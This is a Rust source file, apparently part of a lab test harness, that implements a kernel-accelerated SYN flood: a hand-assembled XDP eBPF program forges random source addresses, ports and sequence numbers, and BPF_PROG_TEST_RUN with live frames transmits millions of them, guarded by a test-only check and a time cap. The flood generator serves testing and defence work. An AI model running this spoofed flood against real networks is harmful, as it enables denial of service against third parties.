//! A SYN flood that the kernel makes by itself, several times as fast as a program sends one: `BPF_PROG_TEST_RUN`
//! with `BPF_F_TEST_XDP_LIVE_FRAMES` (Linux 5.18) runs an XDP program on frames out of nothing and transmits them.

use std::io;
use std::os::fd::{AsRawFd, FromRawFd, OwnedFd};
use std::time::Instant;

use socket2::{Domain, Socket, Type};

use crate::common::frames::{BARE, Segment};
use crate::generator::{Flood, TIME_CAP, pin};
use crate::support::flood::{Random, interface_index, refuse_outside_tests};
use crate::support::lab::{ATTACKER_LINK, Lab, VICTIM_LINK};

/// Frames made in one call. A call takes tens of milliseconds beside them, in which none are sent.
const FRAMES: u32 = 2_000_000;
/// Frames sent at once: as many as a NAPI poll takes.
const BATCH: u32 = 64;

/// Commands and numbers of bpf(2) (`linux/bpf.h`).
const PROG_LOAD: libc::c_long = 5;
const PROG_TEST_RUN: libc::c_long = 10;
const TYPE_XDP: u32 = 6;
const LIVE_FRAMES: u32 = 2;
/// Switches generic receive offload (`linux/ethtool.h`), asked for by this ioctl (`linux/sockios.h`).
const ETHTOOL_SGRO: u32 = 0x2c;
const SIOCETHTOOL: libc::c_ulong = 0x8946;

/// Gives a frame a source address and port and a sequence number at random, and sends it (XDP_TX). No host looks
/// at the checksums of frames for others, so they stay as they are.
const PROGRAM: [u64; 24] = {
    /// `bpf_get_prandom_u32`.
    const PRANDOM: i32 = 7;
    const XDP_DROP: i32 = 1;
    const XDP_TX: i32 = 3;
    [
        instruction(MOVE, 6, 1, 0, 0),
        instruction(CALL, 0, 0, 0, PRANDOM),
        instruction(MOVE, 7, 0, 0, 0),
        instruction(CALL, 0, 0, 0, PRANDOM),
        instruction(MOVE, 8, 0, 0, 0),
        instruction(CALL, 0, 0, 0, PRANDOM),
        instruction(MOVE, 9, 0, 0, 0),
        // The frame lies from the context's `data` up to `data_end`.
        instruction(LOAD_WORD, 2, 6, 0, 0),
        instruction(LOAD_WORD, 3, 6, 4, 0),
        instruction(MOVE, 4, 2, 0, 0),
        instruction(ADD_NUMBER, 4, 0, 0, BARE as i32),
        instruction(MOVE_NUMBER, 0, 0, 0, XDP_DROP),
        instruction(JUMP_IF_GREATER, 4, 3, 10, 0),
        // The first octet of the address is one from 11 to 74.
        instruction(MOVE, 1, 7, 0, 0),
        instruction(AND_NUMBER, 1, 0, 0, 0x3f),
        instruction(ADD_NUMBER, 1, 0, 0, 11),
        instruction(AND_NUMBER, 7, 0, 0, !0xff),
        instruction(OR, 7, 1, 0, 0),
        instruction(STORE_WORD, 2, 7, 26, 0),
        // No port is below 1,024.
        instruction(OR_NUMBER, 9, 0, 0, 4),
        instruction(STORE_HALF, 2, 9, 34, 0),
        instruction(STORE_WORD, 2, 8, 38, 0),
        instruction(MOVE_NUMBER, 0, 0, 0, XDP_TX),
        instruction(EXIT, 0, 0, 0, 0),
    ]
};

/// Operations (RFC 9669).
const MOVE: u8 = 0xbf;
const MOVE_NUMBER: u8 = 0xb7;
const ADD_NUMBER: u8 = 0x07;
const AND_NUMBER: u8 = 0x57;
const OR_NUMBER: u8 = 0x47;
const OR: u8 = 0x4f;
const LOAD_WORD: u8 = 0x61;
const STORE_WORD: u8 = 0x63;
const STORE_HALF: u8 = 0x6b;
const JUMP_IF_GREATER: u8 = 0x2d;
const CALL: u8 = 0x85;
const EXIT: u8 = 0x95;

/// One instruction as it lies in memory (`struct bpf_insn`).
const fn instruction(operation: u8, to: u8, from: u8, offset: i16, number: i32) -> u64 {
    let head = [operation, to | from << 4, offset.to_ne_bytes()[0], offset.to_ne_bytes()[1]];
    let tail = number.to_ne_bytes();
    u64::from_ne_bytes([head[0], head[1], head[2], head[3], tail[0], tail[1], tail[2], tail[3]])
}

/// What `PROG_LOAD` reads of `union bpf_attr`.
#[repr(C)]
#[derive(Default)]
struct Load {
    kind: u32,
    count: u32,
    instructions: u64,
    license: u64,
    log: [u64; 2],
    kernel_version: u32,
    flags: u32,
}

/// What `PROG_TEST_RUN` reads of it.
#[repr(C)]
#[derive(Default)]
struct TestRun {
    program: u32,
    result: u32,
    data_in_length: u32,
    data_out_length: u32,
    data_in: u64,
    data_out: u64,
    repeat: u32,
    duration: u32,
    context_in_length: u32,
    context_out_length: u32,
    context_in: u64,
    context_out: u64,
    flags: u32,
    core: u32,
    batch: u32,
    padding: u32,
}

/// `struct xdp_md`.
#[repr(C)]
#[derive(Default)]
struct Context {
    data: u32,
    data_end: u32,
    data_meta: u32,
    ingress: u32,
    queue: u32,
    egress: u32,
}

impl Flood {
    /// Sends from the attacker of `lab`, on core number `core`, as fast as the kernel can; the rate is not looked at.
    pub fn storm(self, lab: &Lab, core: usize) -> io::Result<()> {
        // Such frames are received by NAPI only, which a veth has with receive offload.
        lab.victim.run(|| switch_receive_offload_on(VICTIM_LINK))?;
        lab.attacker.run(|| {
            refuse_outside_tests();
            pin(core)?;
            let program = load()?;
            let mut frame = [0; BARE + 20];
            Segment::forged(self.target, &mut Random(self.seed | 1)).write(&mut frame);
            frame[..6].copy_from_slice(&self.link);
            let link = interface_index(ATTACKER_LINK)? as u32;
            let begin = Instant::now();
            while begin.elapsed() < self.duration.min(TIME_CAP) {
                run(&program, &frame[..BARE], link)?;
            }
            Ok(())
        })
    }
}

fn load() -> io::Result<OwnedFd> {
    let load = Load {
        kind: TYPE_XDP,
        count: PROGRAM.len() as u32,
        instructions: PROGRAM.as_ptr() as u64,
        license: c"Dual MIT/GPL".as_ptr() as u64,
        ..Load::default()
    };
    let program = bpf(PROG_LOAD, &load)?;
    // SAFETY: a descriptor that the kernel has just given, and nobody else knows of.
    Ok(unsafe { OwnedFd::from_raw_fd(program) })
}

/// Has `program` make frames from this one, as if they had come in on the interface number `link`.
fn run(program: &OwnedFd, frame: &[u8], link: u32) -> io::Result<()> {
    let length = frame.len() as u32;
    let context = Context { data_end: length, ingress: link, ..Context::default() };
    let test = TestRun {
        program: program.as_raw_fd() as u32,
        data_in_length: length,
        data_in: frame.as_ptr() as u64,
        repeat: FRAMES,
        context_in_length: size_of::<Context>() as u32,
        context_in: (&raw const context) as u64,
        flags: LIVE_FRAMES,
        batch: BATCH,
        ..TestRun::default()
    };
    bpf(PROG_TEST_RUN, &test).map(drop)
}

fn bpf<T>(command: libc::c_long, attributes: &T) -> io::Result<libc::c_int> {
    // SAFETY: the pointer is to attributes of the length given, whose own pointers are to memory of the lengths
    // beside them; all of it outlives the call.
    let result =
        unsafe { libc::syscall(libc::SYS_bpf, command, (&raw const *attributes), size_of::<T>()) };
    match i32::try_from(result) {
        Ok(result) if result >= 0 => Ok(result),
        _ => Err(io::Error::last_os_error()),
    }
}

/// Switches generic receive offload on, which has the interface poll for frames (NAPI).
fn switch_receive_offload_on(name: &str) -> io::Result<()> {
    let any = Socket::new(Domain::IPV4, Type::DGRAM, None)?;
    // SAFETY: all zeros are a valid request.
    let mut request: libc::ifreq = unsafe { std::mem::zeroed() };
    for (to, from) in request.ifr_name.iter_mut().zip(name.bytes()) {
        *to = from as libc::c_char;
    }
    // `struct ethtool_value`: command and value.
    let mut value = [ETHTOOL_SGRO, 1];
    request.ifr_ifru.ifru_data = value.as_mut_ptr().cast();
    // SAFETY: the request is for an interface's name and a command that reads both numbers; all outlives the call.
    match unsafe { libc::ioctl(any.as_raw_fd(), SIOCETHTOOL, &raw mut request) } {
        0 => Ok(()),
        _ => Err(io::Error::last_os_error()),
    }
}
